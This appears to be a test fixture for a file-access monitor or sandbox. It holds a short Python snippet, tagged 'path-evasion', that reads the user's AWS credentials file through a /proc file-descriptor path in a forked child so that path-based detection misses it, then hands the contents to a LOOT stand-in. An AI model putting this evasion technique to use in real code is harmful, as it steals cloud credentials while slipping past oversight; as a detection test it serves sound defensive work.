#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
f = os.open(HOME + "/.aws/credentials", os.O_PATH); me = os.getpid(); p = os.fork()
if not p: LOOT(open("/proc/%d/fd/%d" % (me, f)).read()); os._exit(0)
os.waitpid(p, 0)
